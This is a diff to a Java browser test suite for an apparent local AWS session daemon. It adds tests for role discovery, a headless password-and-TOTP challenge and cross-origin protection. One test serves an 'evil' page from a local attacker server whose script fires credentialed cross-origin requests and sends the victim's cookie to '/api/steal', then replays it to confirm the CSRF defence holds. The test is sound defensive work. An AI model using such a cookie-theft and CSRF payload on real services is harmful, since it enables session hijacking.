@@ -210,6 +210,8 @@ class WebPageBrowserTest {
             tab.waitFor("document.getElementById('state-" + id + "').textContent === 'Stopped'");
             Api.given().get("/api/v1/sessions/kbd").then().body("status", org.hamcrest.Matchers.equalTo("INACTIVE"));
 
+            assertEquals("[]", tab.eval("(() => { const ids = [...document.querySelectorAll('[id]')].map(e => e.id);"
+                    + " return ids.filter((id, i) => ids.indexOf(id) !== i); })()").toString(), "ids used twice");
             // Every field has a label; every text meets WCAG AA contrast, in light and in dark.
             for (String view : List.of("#sessions", "#add", "#discover", "#providers")) {
                 tab.eval("location.hash = '" + view + "'");
@@ -272,9 +274,63 @@ class WebPageBrowserTest {
             tab.screenshot(BrowserTab.screenshotFolder().resolve("discover-roles.png"));
             tab.click("roles-create");
             tab.waitFor("document.querySelector('[data-alias=\"discovered-tester\"]')");
+            // Created, and started from the same assertion (one sign-in for every ticked role).
             Api.given().get("/api/v1/sessions/discovered-tester").then().statusCode(200)
                     .body("roleArn", org.hamcrest.Matchers.equalTo(KeyportTestEnvironment.ROLE_ARN))
-                    .body("samlUrl", org.hamcrest.Matchers.equalTo("https://acme.okta.com/home/amazon_aws/0oa1abc/272"));
+                    .body("samlUrl", org.hamcrest.Matchers.equalTo("https://acme.okta.com/home/amazon_aws/0oa1abc/272"))
+                    .body("status", org.hamcrest.Matchers.equalTo("ACTIVE"));
+        }
+    }
+
+    @Test
+    void discoverRolesBySigningInOnceThroughTheIdp() throws Exception {
+        // The test kit's IdP page signs in by itself and posts its SAML response to AWS, as an IdP does after MFA.
+        String samlUrl = env.idpApis().endpoint() + "/_testkit/idp?role=" + KeyportTestEnvironment.ROLE_ARN
+                + "&provider=" + KeyportTestEnvironment.API_IDP_ARN;
+        try (BrowserTab tab = signedIn()) {
+            tab.eval("location.hash = '#discover'");
+            tab.waitFor("!document.getElementById('view-discover').hidden");
+            tab.type("d-samlUrl", samlUrl);
+            tab.type("d-region", "eu-west-1");
+            tab.click("discover-sign-in");
+            tab.waitFor("!document.getElementById('roles-form').hidden");
+            assertTrue(tab.text("document.getElementById('role-list').textContent").contains("KeyportTester"));
+            tab.type("role-alias-0", "signed-in-once");
+            tab.click("roles-create");
+            tab.waitFor("document.querySelector('[data-alias=\"signed-in-once\"]')");
+            Api.given().get("/api/v1/sessions/signed-in-once").then().statusCode(200)
+                    .body("samlUrl", org.hamcrest.Matchers.equalTo(samlUrl))
+                    .body("status", org.hamcrest.Matchers.equalTo("ACTIVE"));
+        }
+    }
+
+    @Test
+    void aHeadlessSignInsQuestionsAreAnsweredOnThePage() throws Exception {
+        Map<String, Object> okta = Api.session("okta-web", "okta-web");
+        okta.put("samlUrl", env.idpApis().okta().embedLink(KeyportTestEnvironment.OKTA_APP));
+        okta.put("idpArn", KeyportTestEnvironment.API_IDP_ARN);
+        okta.put("providerId", "okta");
+        okta.put("loginFlow", "HEADLESS");
+        okta.put("username", "totp");
+        String id = Api.given().body(okta).post("/api/v1/sessions").then().statusCode(201).extract().path("id");
+        try (BrowserTab tab = signedIn()) {
+            tab.click("start-" + id);
+            String field = "challenge-" + id + "-text";
+            tab.waitFor("document.getElementById('" + field + "')");
+            assertEquals("password", tab.text("document.getElementById('" + field + "').type"), "a secret is hidden");
+            assertEquals("Starting", tab.text("document.getElementById('state-" + id + "').textContent"));
+            assertTrue(tab.text("document.getElementById('session-" + id + "').textContent")
+                    .contains("waiting for your answer"), "the card says the start waits for the person");
+            tab.type(field, dev.keyport.testkit.EmulatedUsers.PASSWORD);
+            tab.click("challenge-" + id + "-send");
+            tab.waitFor("document.getElementById('challenge-" + id + "-prompt') && document.getElementById("
+                    + "'challenge-" + id + "-prompt').textContent.includes('Code from')");
+            tab.screenshot(BrowserTab.screenshotFolder().resolve("headless-challenge.png"));
+            tab.type(field, dev.keyport.testkit.EmulatedUsers.TOTP_CODE);
+            tab.click("challenge-" + id + "-send");
+            tab.waitFor("document.getElementById('state-" + id + "').textContent === 'Active'");
+            assertFalse(tab.text("document.body.innerHTML").contains(dev.keyport.testkit.EmulatedUsers.PASSWORD),
+                    "the password does not stay in the page");
         }
     }
 
@@ -297,6 +353,54 @@ class WebPageBrowserTest {
             assertTrue(violations.toString().contains("script-src"), violations.toString());
             assertTrue(violations.toString().contains("img-src"), violations.toString());
             assertTrue(tab.eval("window.pwned === undefined").asBoolean(), "no injected script ran");
+        }
+    }
+
+    @Test
+    void aPageOfAnotherOriginGetsNowhereEvenWithTheCookieItWasSent() throws Exception {
+        Api.started("victim");
+        java.util.concurrent.atomic.AtomicReference<String> stolen = new java.util.concurrent.atomic.AtomicReference<>("");
+        com.sun.net.httpserver.HttpServer attacker = com.sun.net.httpserver.HttpServer.create(
+                new java.net.InetSocketAddress("127.0.0.1", 0), 0);
+        String daemon = base();
+        // Another local program's page, on another port of 127.0.0.1: the same site to the browser, another origin.
+        String evil = "<!DOCTYPE html><title>evil</title><script>(async () => { const r = {};"
+                + " try { await fetch('" + daemon + "/api/v1/sessions/victim/stop', {method: 'POST',"
+                + "   credentials: 'include', mode: 'no-cors'}); r.stop = 'sent'; } catch (e) { r.stop = 'blocked'; }"
+                + " try { const a = await fetch('" + daemon + "/api/v1/sessions', {credentials: 'include'});"
+                + "   r.read = 'read ' + a.status; } catch (e) { r.read = 'blocked'; }"
+                + " try { await fetch('/api/steal', {credentials: 'include'}); } catch (e) { }"
+                + " window.results = r; document.title = 'done'; })();</script>";
+        attacker.createContext("/", exchange -> {
+            if (exchange.getRequestURI().getPath().equals("/api/steal")) {
+                stolen.set(String.valueOf(exchange.getRequestHeaders().getFirst("Cookie")));
+            }
+            byte[] body = evil.getBytes(StandardCharsets.UTF_8);
+            exchange.getResponseHeaders().add("Content-Type", "text/html; charset=utf-8");
+            exchange.sendResponseHeaders(200, body.length);
+            exchange.getResponseBody().write(body);
+            exchange.close();
+        });
+        attacker.start();
+        try (BrowserTab keyport = signedIn(); BrowserTab other = BrowserTab.open(browser)) {
+            other.go("http://127.0.0.1:" + attacker.getAddress().getPort() + "/evil");
+            other.waitFor("document.title === 'done'");
+            assertEquals("blocked", other.text("window.results.read"), "the page read nothing of the daemon's");
+            Api.given().get("/api/v1/sessions/victim").then().body("status", org.hamcrest.Matchers.equalTo("ACTIVE"));
+
+            // The browser did send that page Keyport's cookie (cookies ignore ports)...
+            String cookieName = "keyport-ui-" + RestAssured.port;
+            assertTrue(stolen.get().contains(cookieName + "="), "cookie sent to the other port: " + stolen.get());
+            String value = stolen.get().replaceFirst(".*" + cookieName + "=([^;]+).*", "$1");
+            // ...and it is worth nothing without the CSRF token that only Keyport's own page holds.
+            RestAssured.given().header("Origin", base()).header("Sec-Fetch-Site", "same-origin")
+                    .header("Cookie", cookieName + "=" + value).post("/api/v1/sessions/victim/stop").then()
+                    .statusCode(403);
+            Api.given().get("/api/v1/sessions/victim").then().body("status", org.hamcrest.Matchers.equalTo("ACTIVE"));
+            // Keyport's own tab, with the same cookie, still works.
+            keyport.waitFor("document.querySelector('[data-alias=\"victim\"]')");
+        } finally {
+            attacker.stop(0);
         }
     }
 
